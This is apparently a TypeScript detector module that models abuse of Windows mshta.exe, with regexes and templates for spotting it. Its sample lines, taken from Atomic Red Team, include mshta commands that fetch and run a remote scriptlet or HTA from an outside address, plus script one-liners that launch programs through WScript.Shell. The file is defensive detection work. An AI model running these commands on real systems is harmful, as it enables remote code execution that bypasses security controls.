import { type Abuse, addressOwner, foreignSource, groundOf } from "../models/abuse.ts";
import type { ProgramModel } from "../models/program-model.ts";

/** What a script in the line must do to be hostile, if it fetches none: a message box is not. */
const DEED = /\.(?:run|exec|shellexecute)\b|\bxmlhttp\b/i;
const FETCHED = /\bgetobject\s*\(?\s*["']+script:([^"']*)/i;

/**
 * The line behind the program's name as one text: mshta opens what it begins with. A script takes all
 * of it, with its blanks and quotes; a file or an address ends at a blank, or at its closing quote.
 */
function findAbuse(line: string): Abuse | undefined {
  const rest = line.replace(/^\s*(?:"[^"]*"?|[^\s"]+)/, "").trim();
  const scheme = /^"*(javascript|vbscript|about):/i.exec(rest)?.[1]?.toLowerCase();
  if (scheme !== undefined) return findInScript(rest, scheme);
  const opened = /^"([^"]*)/.exec(rest)?.[1] ?? /^[^\s"]*/.exec(rest)?.[0] ?? "";
  // From a share or a folder it takes only what is called an HTML application or a page; a stream
  // has its own ending.
  if (!/^(?:https?|ftp):/i.test(opened) && !/\.(?:hta|html?)$/i.test(opened)) return undefined;
  const source = foreignSource(opened);
  return source && { ...source, words: `runs a page ${source.words}` };
}

/** Nobody fetches a script like this from an own site, so any host is hostile. */
function findInScript(script: string, scheme: string): Abuse | undefined {
  const place = FETCHED.exec(script)?.[1];
  const owner = place === undefined ? undefined : addressOwner(place);
  if (owner !== undefined)
    return { words: `runs a script from the address ${place}`, rests: groundOf(owner) };
  const file = place === undefined ? undefined : foreignSource(place);
  if (file) return { ...file, words: `runs a script ${file.words}` };
  return DEED.test(script)
    ? { words: `runs the script behind ${scheme}:`, rests: "deed" }
    : undefined;
}

const FETCH = 'GetObject("script:{url}")';

/** mshta runs pages with the rights of the user. Facts: ATT&CK T1218.005, Microsoft on HTA. */
export const MSHTA_MODEL: ProgramModel = {
  program: "mshta",
  images: ["C:\\Windows\\System32\\mshta.exe", "C:\\Windows\\SysWOW64\\mshta.exe"],
  dashes: [],
  spellings: {},
  uses: [
    "{url} {extra}",
    "{file} {extra}",
    `javascript:a=${FETCH};close();{remark}`,
    `vbscript:Close(Execute("${FETCH.replaceAll('"', '""')}"))`,
    "about:<script>x=new ActiveXObject('WScript.Shell').Run('calc')</script>",
  ],
  continuations: [
    ";new ActiveXObject('WScript.Shell').Run('calc');close();{remark}",
    ' 1:CreateObject(""WScript.Shell"").Run ""calc"":close")',
  ],
  ending: ".hta",
  remarks: (text) => [`//${text}`, ...(text.includes("*/") ? [] : [`/*${text}*/`])],
  // Written from Atomic Red Team (MIT, Red Canary, Inc.), T1218.005, and recordings in samples/.
  knownLines: [
    "mshta.exe javascript:a=(GetObject('script:https://raw.githubusercontent.com/r/a.sct')).Exec();close();",
    'mshta vbscript:Execute("CreateObject(""WScript.Shell"").Run ""calc.exe"":close")',
    "mshta http://198.51.100.5/x.hta",
    '"C:\\Windows\\System32\\mshta.exe" "C:\\Users\\Public\\x.hta"',
  ],
  readLine: (line) => {
    const abuse = findAbuse(line);
    return () => abuse;
  },
};
